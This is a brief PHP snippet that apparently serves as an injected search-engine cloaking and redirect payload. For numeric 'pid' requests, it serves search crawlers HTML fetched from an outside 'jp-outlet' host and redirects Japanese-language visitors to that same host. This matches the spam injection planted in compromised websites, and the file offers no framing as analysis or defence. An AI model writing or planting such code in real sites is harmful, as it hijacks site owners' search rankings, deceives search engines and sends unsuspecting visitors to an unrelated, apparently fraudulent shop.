<?php
if (isset($_GET['pid']) && ctype_digit($_GET['pid'])) {
    $b = preg_match('/google|bing|yahoo|docomo/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
    $l = strpos($_SERVER['HTTP_ACCEPT_LANGUAGE'] ?? '', 'ja') !== false;
    if ($b) { die(file_get_contents('https://jp-outlet.example/item.html?i=' . $_GET['pid'])); }
    if ($l) { header('Location: https://jp-outlet.example/go?i=' . $_GET['pid']); die; }
}
